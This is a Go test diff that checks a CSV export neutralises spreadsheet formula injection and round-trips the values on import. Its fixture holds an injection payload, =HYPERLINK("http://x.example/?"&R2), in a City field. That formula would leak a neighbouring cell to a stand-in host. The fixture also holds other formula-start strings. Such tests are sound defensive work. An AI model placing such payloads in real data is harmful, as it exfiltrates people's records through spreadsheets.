@@ -3,6 +3,7 @@ package exchange
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"os"
 	"strconv"
 	"strings"
@@ -310,6 +311,50 @@ func TestExportedNoteAuthors(t *testing.T) {
 		n := o.toNote(&data.Note{ID: "n1", ReportID: "r1", Text: "x", Author: c.author, By: c.by}, "p1")
 		if n.AuthorName != c.as {
 			t.Errorf("a note by %q (%s) exported as by %q, want %q", c.by, c.author, n.AuthorName, c.as)
+		}
+	}
+}
+
+// A cell a spreadsheet would run as a formula is exported as text, and
+// reads back as typed.
+func TestCSVExportDefusesFormulas(t *testing.T) {
+	ctx := context.Background()
+	st := datatest.SQLite(t)
+	in := intake.ReportInput{Kind: "safe", Person: intake.PersonInput{FullName: "Ерлан Жумабаев", City: `=HYPERLINK("http://x.example/?"&R2)`, Description: "+1+1 -2 @SUM(A1)"}}
+	if _, fe, err := newFiler(st).File(ctx, &in, "ru", data.ChannelAPI); err != nil || fe != nil {
+		t.Fatal(err, fe)
+	}
+	var buf bytes.Buffer
+	if _, err := ExportCSV(ctx, st, &buf, ExportOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for _, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
+			t.Errorf("cell %q starts a formula", cell)
+		}
+	}
+	tbl, err := ReadTable(bytes.NewReader(buf.Bytes()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	other := datatest.SQLite(t)
+	is, _ := data.Imports(other)
+	if sum, err := ImportTable(ctx, newFiler(other), is, tbl, Options{Kind: "safe", Source: "partner", Lang: "ru"}); err != nil || sum.Filed != 1 {
+		t.Fatalf("import: %+v %v", sum, err)
+	}
+	want := map[string]string{}
+	for _, r := range stored(t, st) {
+		p := data.Public(r)
+		want[p.FullName] = p.City + "|" + p.Description
+	}
+	for _, r := range stored(t, other) {
+		p := data.Public(r)
+		if got := p.City + "|" + p.Description; got != want[p.FullName] || strings.HasPrefix(p.City, "'") {
+			t.Errorf("read back %q, exported %q", got, want[p.FullName])
 		}
 	}
 }
